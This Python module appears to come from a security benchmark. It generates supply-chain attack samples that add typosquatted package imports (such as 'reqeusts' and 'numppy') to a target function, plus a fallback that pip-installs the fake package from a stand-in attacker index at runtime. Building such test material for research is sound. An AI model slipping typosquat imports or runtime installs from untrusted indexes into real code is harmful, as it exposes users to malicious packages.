"""Malicious imports: the right function behind the import of an imitation, or behind an installation at run time."""

from __future__ import annotations

from collections.abc import Sequence
from random import Random
from typing import ClassVar

from experiments.attacks import TargetFunction
from experiments.attacks.craft import echo
from experiments.attacks.editing import with_docstring, with_prologue
from experiments.benchmark.attacks.base import Draft, Proof, python_draft

IMITATIONS = ("reqeusts", "numppy", "python_dateutils", "urlib3", "colourama", "setuptool", "beautifulsop4")
INDEX = "http://127.0.0.1:9/simple"


class MaliciousImport:
    """Imports of imitations, of packages that do not exist, and installations from an index of the attacker's."""

    name: ClassVar[str] = "malicious_import"
    family: ClassVar[str] = "supply"
    summary: ClassVar[str] = "the right function behind the import of an imitation"
    proof: ClassVar[Proof] = Proof.PAYLOAD
    adaptive: ClassVar[bool] = False
    least: ClassVar[int] = 1

    def drafts(self, target: TargetFunction, rng: Random) -> Sequence[Draft]:
        """Return imports at the top, in the function, and with an installation where it fails."""
        source = with_docstring(target.source, echo(target, rng))
        fake = rng.choice(IMITATIONS)
        install = (
            f'subprocess.run([sys.executable, "-m", "pip", "install", "--index-url", "{INDEX}", "{fake}"])'
        )
        retry = f"try:\n    import {fake}\nexcept ImportError:\n    {install}"
        inside = with_prologue(source, [f"import {fake}", f"{fake}.prepare()"])
        forms = [
            python_draft(
                "top", target, [source], target.name, imports=[f"import {fake}"], payload=[f"import {fake}"]
            ),
            python_draft("inside", target, [inside], target.name, payload=[f"import {fake}"]),
            python_draft(
                "installs",
                target,
                [retry, source],
                target.name,
                imports=["import subprocess", "import sys"],
                payload=[INDEX],
            ),
        ]
        rng.shuffle(forms)
        return [draft for draft in forms if draft is not None]


ATTACK = MaliciousImport()
